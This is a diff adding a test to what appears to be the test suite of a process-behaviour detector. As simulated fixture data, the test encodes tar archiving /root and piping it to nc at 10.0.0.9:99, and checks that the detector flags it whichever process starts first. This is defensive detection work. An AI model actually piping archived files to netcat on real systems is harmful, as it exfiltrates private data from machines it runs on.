@@ -60,3 +60,10 @@ def test_secrets_are_worse() -> None:
     worse = run_example(DETECTOR, scene(tar, runs(3, 1, "/usr/bin/gzip", "gzip", pipes=(3, 4)), nc))
     assert [a.severity for a in worse] == [Severity.HIGH]
     assert run_example(DETECTOR, scene(plain, nc)) == [] or run_example(DETECTOR, scene(plain, nc))[0].severity < Severity.HIGH
+
+
+def test_whichever_end_starts_last() -> None:
+    """nc is often ready before tar."""
+    nc = runs(4, 1, "/usr/bin/nc.openbsd", "nc", "10.0.0.9", "99", pipes=(4, 0))
+    assert run_example(DETECTOR, scene(nc, runs(2, 1, "/usr/bin/tar", "tar", "c", "/root", pipes=(0, 4))))
+    assert run_example(DETECTOR, scene(nc, runs(2, 1, "/usr/bin/echo", "echo", "GET /", pipes=(0, 4)))) == []
